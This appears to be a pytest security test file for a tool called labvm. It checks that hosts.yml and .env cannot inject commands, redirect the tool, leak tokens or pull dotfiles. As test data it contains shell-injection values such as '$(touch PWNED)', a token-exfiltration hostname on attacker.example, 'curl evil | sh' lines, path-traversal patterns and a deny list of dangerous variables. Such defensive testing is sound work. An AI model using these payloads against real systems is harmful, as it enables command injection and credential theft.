"""Trust boundaries of hosts.yml and .env (issue 18: items 1, 4, 5, 6, 8, 9 and rsync's part of 14).

Both files come from colleagues and repositories, the VM's files from whoever is on the VM.
Each case runs as a user meets it: `inv` in a subprocess ends with one labvm line naming the file,
the key (or the .env line) and the next step; nothing from the file or the VM runs, leaks or lands
where it may run.  The in-process cases read what labvm hands on (the process environment, a
profile's values) the way the SDKs and the ssh config writer read them.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import tempfile
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings, strategies as st

from labvm import config as labvm_config
from labvm.errors import LabvmError
from realhost import free_port, one_line, put, ssh_profile

SECRET = "ghp_s3cr3tTOKENvalue"
ALLOWED_FROM_ENVIRONMENT = {
    "USER",
    "AWS_PROFILE",
    "AWS_DEFAULT_REGION",
    "OS_CLOUD",
    "GOOGLE_CLOUD_PROJECT",
}  # + LABVM_*


def unreachable_vm(**extra) -> dict:
    """An ssh profile nothing answers for: a task that gets past hosts.yml fails on the network."""
    return {"provider": "ssh", "address": "127.0.0.1", "port": free_port(), "user": "lab", **extra}


@contextmanager
def laptop(hosts: dict, dotenv: str | None = None, environ: dict | None = None):
    """hosts.yml (+ .env) in a folder of their own, loaded in this process; the environment restored."""
    directory = Path(tempfile.mkdtemp(prefix="lvt-"))
    saved = dict(os.environ)
    try:
        (directory / "hosts.yml").write_text(yaml.safe_dump({"profiles": hosts}))
        if dotenv is not None:
            (directory / ".env").write_text(dotenv)
        os.environ.pop("LABVM_HOSTS", None)
        os.environ.update(environ or {})
        yield directory
    finally:
        os.environ.clear()
        os.environ.update(saved)
        shutil.rmtree(directory, ignore_errors=True)


# -- 1, 9: .env never sets what changes where labvm talks or what it runs --------------------------

REFUSED_FROM_DOTENV = [
    "BASH_ENV",
    "ENV",
    "LABVM_SSH_DIR",
    "AWS_ENDPOINT_URL",
    "AWS_ENDPOINT_URL_EC2",
    "LABVM_GCE_ENDPOINT",
    "LABVM_AUTOSTOP_COMMAND",
    "RSYNC_OLD_ARGS",
    "RSYNC_RSH",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "LD_PRELOAD",
    "DYLD_INSERT_LIBRARIES",
    "PATH",
    "HOME",
    "GIT_SSH_COMMAND",
    "SSH_AUTH_SOCK",
    "https_proxy",
    "AWS_CONFIG_FILE",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "OS_AUTH_URL",
    "LABVM_HOSTS",
    "OS_CLIENT_CONFIG_FILE",
    "OS_CLIENT_SECURE_FILE",
    "AWS_SHARED_CREDENTIALS_FILE",
    "AWS_DATA_PATH",
    "BOTO_CONFIG",
    "CLOUDSDK_CONFIG",
]


@pytest.mark.parametrize("name", REFUSED_FROM_DOTENV)
def test_a_dotenv_name_that_redirects_or_runs_something_is_refused_with_its_line(lab, name):
    marker = lab.directory / "PWNED"
    lab.write_hosts({"local": {"provider": "local"}})
    (lab.directory / ".env").write_text(f"AWS_PROFILE=lab\n{name}='$(touch {marker})'\n")
    result = lab.inv("status", "--host", "local", check=False)
    assert not marker.exists()
    one_line(
        result,
        f"{lab.directory / '.env'}: line 2: {name} is refused from .env",
        "set it in your own shell if you mean it",
    )


def test_local_steps_run_no_shell_start_up_hooks(lab):
    """A local step is `sh SCRIPT ARGS` from an argument list: BASH_ENV or ENV in the environment (which
    a non-interactive bash reads first) runs nothing before labvm's script."""
    marker, hook = lab.directory / "HOOKED", lab.directory / "hook.sh"
    hook.write_text(f"touch '{marker}'\n")
    lab.write_hosts({"local": {"provider": "local"}})
    lab.extra_env.update(BASH_ENV=str(hook), ENV=str(hook))
    subprocess.run(["bash", "-c", "true"], env=lab.env, check=True)  # the positive control: bash runs the hook
    assert marker.exists()
    marker.unlink()
    result = lab.inv("status", "--host", "local")
    assert "local" in result.output and not marker.exists()


def test_dotenv_feeds_variables_and_only_the_allow_list_enters_the_environment():
    dotenv = (
        "AWS_PROFILE=lab\nLABVM_HOST=vm\nOS_CLOUD=cades\nGITHUB_TOKEN=from-dotenv\n"
        "AWS_SECRET_ACCESS_KEY=abc\nLAB_HOST=ws1.example.org\n"
    )
    hosts = {"vm": unreachable_vm(address="${LAB_HOST}", notebook={"password": "${GITHUB_TOKEN}"})}
    with laptop(hosts, dotenv) as directory:
        for name in ("AWS_PROFILE", "LABVM_HOST", "OS_CLOUD", "GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "LAB_HOST"):
            os.environ.pop(name, None)
        profile = labvm_config.load(directory / "hosts.yml").profile("vm")
        assert (profile.address, profile.notebook.password) == ("ws1.example.org", "from-dotenv")
        assert {k: os.environ.get(k) for k in ("AWS_PROFILE", "LABVM_HOST", "OS_CLOUD")} == {
            "AWS_PROFILE": "lab",
            "LABVM_HOST": "vm",
            "OS_CLOUD": "cades",
        }
        assert not {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "LAB_HOST"} & os.environ.keys()


def test_your_own_environment_still_wins_over_dotenv():
    with laptop({"vm": unreachable_vm()}, "AWS_PROFILE=from-dotenv\n", {"AWS_PROFILE": "mine"}) as directory:
        labvm_config.load(directory / "hosts.yml").profile("vm")
        assert os.environ["AWS_PROFILE"] == "mine"


def test_a_dotenv_value_is_literal_and_never_reads_the_environment():
    """python-dotenv expands ${NAME} inside values from os.environ unless told not to."""
    hosts = {"vm": unreachable_vm(address="${LAB_HOST}")}
    with laptop(hosts, "LAB_HOST=${GITHUB_TOKEN}.t.attacker.example\n", {"GITHUB_TOKEN": "abc"}) as directory:
        with pytest.raises(LabvmError) as error:
            labvm_config.load(directory / "hosts.yml").profile("vm")
        assert "profiles.vm.address: must be a host name or IP address" in str(error.value)
        assert "abc.t.attacker" not in str(error.value)


ENTERS_ENVIRONMENT = {
    "AWS_PROFILE",
    "AWS_DEFAULT_REGION",
    "OS_CLOUD",
    "GOOGLE_CLOUD_PROJECT",
    "LABVM_HOST",
    "LABVM_GCE_OSLOGIN",
}


@settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.tuples(
            st.one_of(
                st.sampled_from(sorted(ENTERS_ENVIRONMENT) + REFUSED_FROM_DOTENV + ["GITHUB_TOKEN", "X"]),
                st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,12}", fullmatch=True),
            ),
            st.text(st.characters(blacklist_categories=("Cs",)), max_size=20),
        ),
        min_size=1,
        max_size=6,
    )
)
def test_whatever_dotenv_holds_only_the_allow_list_enters_the_environment(lines):
    text = "".join(f"{name}={value!r}\n" if "\n" in value else f"{name}='{value}'\n" for name, value in lines)
    with laptop({"vm": unreachable_vm()}) as directory:
        (directory / ".env").write_text(text)
        for name, _ in lines:
            os.environ.pop(name, None)
        before = dict(os.environ)
        try:
            labvm_config.load(directory / "hosts.yml")
        except LabvmError as e:
            assert len(str(e).splitlines()) == 1 and str(directory / ".env") in str(e)
        added = {k for k in os.environ.keys() - before.keys()}
        changed = {k for k in before if os.environ.get(k) != before[k]}
    assert added <= ENTERS_ENVIRONMENT and not changed, (added, changed)


# -- 6: ${VAR} in hosts.yml reads .env and a short allow-list of the environment --------------------

EXFILTRATION = [
    ("jump", "${GITHUB_TOKEN}.t.attacker.example"),
    ("address", "${GITHUB_TOKEN}.example.org"),
    ("user", "${GITHUB_TOKEN}"),
    ("notebook", {"password": "${GITHUB_TOKEN}"}),
    ("env", {"packages": ["jupyterlab", "${GITHUB_TOKEN}"]}),
    ("cluster", {"hosts": ["${GITHUB_TOKEN}.t.attacker.example"]}),
    ("address", "${HOME}"),  # not a secret, but not on the list either
]


@pytest.mark.parametrize("key, written", EXFILTRATION, ids=[f"{k}-{i}" for i, (k, _) in enumerate(EXFILTRATION)])
def test_a_variable_from_the_environment_off_the_allow_list_is_refused_unread(lab, key, written):
    lab.extra_env["GITHUB_TOKEN"] = SECRET
    lab.write_hosts({"vm": unreachable_vm(**{key: written})})
    variable = re.search(r"\$\{(\w+)\}", str(written)).group(1)
    for task in ("check", "keys"):
        next_step = "write the value itself in hosts.yml" if variable == "HOME" else f"set {variable} in .env beside"
        line = one_line(
            lab.inv(task, "--host", "vm", check=False),
            f"{lab.hosts}: profiles.vm.{key}",
            f"${{{variable}}} is not one hosts.yml may read from the environment",
            next_step,
        )
        assert SECRET not in line
    assert not (lab.ssh_dir / "labvm" / "config").exists()


def test_the_allow_list_and_dotenv_still_feed_hosts_yml():
    hosts = {"vm": unreachable_vm(address="${LABVM_LAB_ADDRESS}", user="${USER}", jump="${JUMP}")}
    environ = {"LABVM_LAB_ADDRESS": "10.1.2.3", "USER": "ann", "JUMP": "not-this.example.org"}
    with laptop(hosts, "JUMP=login.example.org\n", environ) as directory:
        profile = labvm_config.load(directory / "hosts.yml").profile("vm")
    assert (profile.address, profile.user, profile.jump) == ("10.1.2.3", "ann", "login.example.org")


@settings(max_examples=60, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(
    name=st.from_regex(r"[A-Z][A-Z0-9_]{0,15}", fullmatch=True),
    value=st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)), min_size=1, max_size=40),
)
def test_no_environment_variable_off_the_list_reaches_a_profile(name, value):
    if name.startswith("LABVM_") or name in ALLOWED_FROM_ENVIRONMENT:
        return
    secret = f"s3cret-{value}"
    with laptop({"vm": unreachable_vm(jump=f"${{{name}}}")}, environ={name: secret}) as directory:
        with pytest.raises(LabvmError) as error:
            labvm_config.load(directory / "hosts.yml").profile("vm")
    assert f"${{{name}}} is not one hosts.yml may read from the environment" in str(error.value)
    assert secret not in str(error.value) and repr(secret) not in str(error.value)


# -- 4: sync_dir stays in hosts.yml's folder; patterns stay in the workspace, out of dot-folders ----

SYNC_DIRS = [
    "~",
    "~/.aws",
    "/tmp/elsewhere",
    ".",
    "..",
    "../elsewhere",
    "notebooks/../..",
    ".git/notebooks",
    "notebooks/.hidden",
    "linked-home",
    "linked-home/notebooks",
]


@pytest.mark.parametrize("sync_dir", SYNC_DIRS)
def test_sync_dir_outside_hosts_yml_folder_or_hidden_is_refused(lab, tmp_path, sync_dir):
    lab.extra_env["HOME"] = str(tmp_path)  # the laptop's home, outside the lab folder
    (lab.directory / "linked-home").symlink_to(tmp_path)
    lab.write_hosts({"vm": unreachable_vm(sync_dir=sync_dir, sync=[".bashrc"] if sync_dir == "~" else ["*.ipynb"])})
    result = lab.inv("sync", "--host", "vm", check=False)
    if sync_dir == "~":
        one_line(result, f"{lab.hosts}: profiles.vm.sync: each pattern names files under the workspace")
        lab.write_hosts({"vm": unreachable_vm(sync_dir=sync_dir)})
        result = lab.inv("sync", "--host", "vm", check=False)
    one_line(result, f"{lab.hosts}: profiles.vm.sync_dir: {sync_dir} ", "e.g. notebooks/{profile}")
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_sync_dir_never_meets_the_code_labvm_runs(lab):
    checkout = labvm_config.PACKAGE_DIR.parent
    for sync_dir in (checkout, checkout / "labvm", checkout / "labvm" / "providers", checkout / "scripts"):
        hosts = checkout.parent / "hosts.yml" if sync_dir == checkout else checkout / "hosts.yml"
        with laptop({"vm": unreachable_vm(sync_dir=str(sync_dir))}) as directory:
            config = labvm_config.load(directory / "hosts.yml")
            config = labvm_config.Config(hosts, config.default, config.names, config.raw, config.variables)
            with pytest.raises(
                LabvmError, match=r"profiles\.vm\.sync_dir: .*(holds code labvm runs|is not a folder inside)"
            ):
                config.profile("vm")


BAD_PATTERNS = [
    ".bashrc",
    ".ssh/*",
    "notebooks/.git/config",
    "../x.ipynb",
    "/etc/passwd",
    "a/../../b.py",
    "~/.aws/credentials",
    "\\.bashrc",
    "x\n.ipynb",
]


@pytest.mark.parametrize("pattern", BAD_PATTERNS)
def test_a_sync_pattern_that_leaves_the_workspace_or_names_a_dot_file_is_refused(lab, pattern):
    lab.write_hosts({"vm": unreachable_vm(sync=["*.ipynb", pattern])})
    one_line(
        lab.inv("sync", "--host", "vm", check=False),
        f"{lab.hosts}: profiles.vm.sync: each pattern names files under the workspace",
        "e.g. *.ipynb",
    )


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(st.sampled_from("ab.*?[]/\\~-_ \n"), min_size=1, max_size=12))
def test_an_accepted_sync_pattern_stays_under_the_workspace_and_out_of_dot_folders(pattern):
    with laptop({"vm": unreachable_vm(sync=[pattern])}) as directory:
        try:
            profile = labvm_config.load(directory / "hosts.yml").profile("vm")
        except LabvmError as e:
            assert "profiles.vm.sync: " in str(e) and len(str(e).splitlines()) == 1
            return
    (accepted,) = profile.sync_patterns
    parts = accepted.split("/")
    assert not accepted.startswith(("/", "~")) and "\\" not in accepted and "\n" not in accepted
    assert not any(part == ".." or part.startswith(".") for part in parts), accepted


@pytest.fixture
def workspace(user):
    """An empty ~/work on the VM for each test."""
    subprocess.run(["rm", "-rf", str(user.home / "work")], check=True)
    yield user.home / "work"
    subprocess.run(["rm", "-rf", str(user.home / "work")], check=True)


def test_no_pattern_brings_a_dot_file_home(lab, user, sshd, workspace):
    """rsync's * and [.] match a leading dot: the patterns pass the check, the files still stay away."""
    lab.write_hosts({"vm": ssh_profile(user, sshd, sync=["*rc", "[.]profile", "*", "*/*"])})
    put(user, ".bashrc", "curl evil | sh\n")
    put(user, ".profile", "curl evil | sh\n")
    put(user, ".aws/credentials", "[default]\n")
    put(user, "sub/.envrc", "curl evil | sh\n")
    put(user, "notes.md", "# notes\n")
    lab.inv("sync", "--host", "vm")
    home = lab.directory / "notebooks" / "vm"
    assert sorted(str(p.relative_to(home)) for p in home.rglob("*") if not p.name.startswith(".labvm-sync")) == [
        "notes.md"
    ]


def test_a_push_never_sends_a_dot_file(lab, user, sshd, workspace):
    lab.write_hosts({"vm": ssh_profile(user, sshd, sync=["*"])})
    put(user, "keep.md", "on the VM\n")
    lab.inv("sync", "--host", "vm")
    home = lab.directory / "notebooks" / "vm"
    (home / ".netrc").write_text("machine example.org password secret\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("[default]\n")
    (home / "a.ipynb").write_text("{}")
    assert "1 file(s) sent to the host" in lab.inv("sync", "--host", "vm", "--push").output
    assert sorted(p.name for p in workspace.iterdir()) == ["a.ipynb", "keep.md"]


# -- 8: notebook.workspace is a plain path; rsync hands it over as an argument -------------------

BAD_WORKSPACES = [
    "work/$(touch PWNED)",
    "~/ws; touch PWNED",
    "`touch PWNED`",
    "a b",
    "-rf",
    "~/../other",
    "work\nx",
    "'quoted'",
    "work|x",
    "work&",
    "~root/work",
    "$HOME/x",
    "work/*",
]


@pytest.mark.parametrize("workspace", BAD_WORKSPACES)
def test_a_workspace_that_a_shell_would_read_is_refused(lab, workspace):
    lab.write_hosts({"vm": unreachable_vm(notebook={"workspace": workspace})})
    for task in ("sync", "up"):
        one_line(
            lab.inv(task, "--host", "vm", check=False),
            f"{lab.hosts}: profiles.vm.notebook.workspace: must be a plain folder path on the host",
        )


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text(max_size=30))
def test_an_accepted_workspace_holds_nothing_a_shell_reads(text):
    with laptop({"vm": unreachable_vm(notebook={"workspace": text})}) as directory:
        try:
            profile = labvm_config.load(directory / "hosts.yml").profile("vm")
        except LabvmError as e:
            assert "Traceback" not in str(e)
            return
    assert re.fullmatch(r"[A-Za-z0-9._+@,=/~-]+", profile.notebook.workspace), profile.notebook.workspace
    assert "~" not in profile.notebook.workspace[1:] and ".." not in profile.notebook.workspace.split("/")


def test_a_hostile_workspace_never_reaches_the_vms_shell_even_with_old_rsync_args(lab, user, sshd, workspace):
    """RSYNC_OLD_ARGS=1 (in the user's own shell) makes rsync 3.2.4+ hand paths to the remote shell,
    as macOS's rsync 2.6.9 always does."""
    marker = user.home / "PWNED"
    lab.extra_env["RSYNC_OLD_ARGS"] = "1"
    lab.write_hosts({"vm": ssh_profile(user, sshd, notebook={"workspace": f"work/$(touch {marker})"})})
    put(user, "a.ipynb", "{}")
    result = lab.inv("sync", "--host", "vm", check=False)
    assert not marker.exists()
    one_line(result, "profiles.vm.notebook.workspace: must be a plain")
    lab.write_hosts({"vm": ssh_profile(user, sshd)})
    assert "1 file(s) brought home" in lab.inv("sync", "--host", "vm").output  # old args, plain path: works


def test_a_workspace_with_every_allowed_character_syncs(lab, user, sshd, workspace):
    lab.write_hosts({"vm": ssh_profile(user, sshd, notebook={"workspace": "~/work/a+b,c=d@e_f-g.h"})})
    put(user, "a+b,c=d@e_f-g.h/n.ipynb", "{}")
    assert "1 file(s) brought home" in lab.inv("sync", "--host", "vm").output
    assert (lab.directory / "notebooks" / "vm" / "n.ipynb").read_text() == "{}"


# -- 5: invoke's files never come home --------------------------------------------------------------


def test_invoke_files_stay_on_the_vm_and_the_sync_says_so(lab, user, sshd, workspace):
    lab.write_hosts({"vm": ssh_profile(user, sshd)})
    planted = ["tasks.py", "invoke.py", "invoke.yaml", "invoke.json", "sub/tasks.py", "tasks/__init__.py"]
    for name in planted:
        put(user, name, "import os; os.system('touch PWNED')\n")
    put(user, "analysis.py", "x = 1\n")
    put(user, "tasks/notes.md", "# notes\n")
    result = lab.inv("sync", "--host", "vm")
    home = lab.directory / "notebooks" / "vm"
    assert sorted(
        str(p.relative_to(home)) for p in home.rglob("*") if p.is_file() and not p.name.startswith(".labvm-sync")
    ) == ["analysis.py", "tasks/notes.md"]
    said = [line for line in result.stdout.splitlines() if "invoke would run them" in line]
    assert said == [
        "sync: left on the host, as invoke would run them from this folder: "
        "invoke.py, sub/tasks.py, tasks.py, tasks/__init__.py"
    ]  # the patterns match no yaml/json
    pushed = lab.inv("sync", "--host", "vm", "--push")
    assert "0 file(s) sent" in pushed.output


# -- 14: a size cap per file and per sync; sparse files stay sparse ---------------------------------


def test_a_file_over_sync_max_file_stays_on_the_vm_and_is_named(lab, user, sshd, workspace):
    lab.write_hosts({"vm": ssh_profile(user, sshd, sync_max_file="1M")})
    put(user, "small.ipynb", "{}")
    put(user, "huge.ipynb", "x" * (2 * 2**20))
    result = lab.inv("sync", "--host", "vm")
    home = lab.directory / "notebooks" / "vm"
    assert (home / "small.ipynb").exists() and not (home / "huge.ipynb").exists()
    assert "sync: over sync_max_file, left where they are: huge.ipynb" in result.stdout.splitlines()


def test_a_sparse_file_stays_sparse_on_the_laptop(lab, user, sshd, workspace):
    lab.write_hosts({"vm": ssh_profile(user, sshd)})
    put(user, "sparse.ipynb", "")
    os.truncate(workspace / "sparse.ipynb", 50 * 2**20)  # 50 MB, no block written
    lab.inv("sync", "--host", "vm")
    copy = lab.directory / "notebooks" / "vm" / "sparse.ipynb"
    assert copy.stat().st_size == 50 * 2**20
    assert copy.stat().st_blocks * 512 < 2**20, copy.stat().st_blocks


def test_a_sync_over_sync_max_total_copies_nothing_and_says_how_to_go_on(lab, user, sshd, workspace):
    lab.write_hosts({"vm": ssh_profile(user, sshd, sync_max_file="1M", sync_max_total="2M")})
    for n in range(6):
        put(user, f"part{n}.ipynb", str(n) * 900_000)
    put(user, "tasks.py", "x" * 900_000)  # never comes, so it does not count
    one_line(
        lab.inv("sync", "--host", "vm", check=False),
        "sync: the host offers 5.1 MB",
        "more than sync_max_total (2.0 MB); nothing was copied",
        f"raise {lab.hosts}: profiles.vm.sync_max_total",
    )
    home = lab.directory / "notebooks" / "vm"
    assert [p.name for p in home.iterdir() if not p.name.startswith(".labvm-sync")] == []
    lab.write_hosts({"vm": ssh_profile(user, sshd, sync_max_file="1M", sync_max_total="6M")})
    lab.inv("sync", "--host", "vm")
    assert sorted(p.name for p in home.glob("*.ipynb")) == [f"part{n}.ipynb" for n in range(6)]


@pytest.mark.parametrize("key, value", [("sync_max_file", "lots"), ("sync_max_total", 0), ("sync_max_total", "-1G")])
def test_a_bad_size_names_its_key(lab, key, value):
    lab.write_hosts({"vm": unreachable_vm(**{key: value})})
    one_line(
        lab.inv("sync", "--host", "vm", check=False),
        f"{lab.hosts}: profiles.vm.{key}: must be a size like 500K, 100M or 2G",
    )
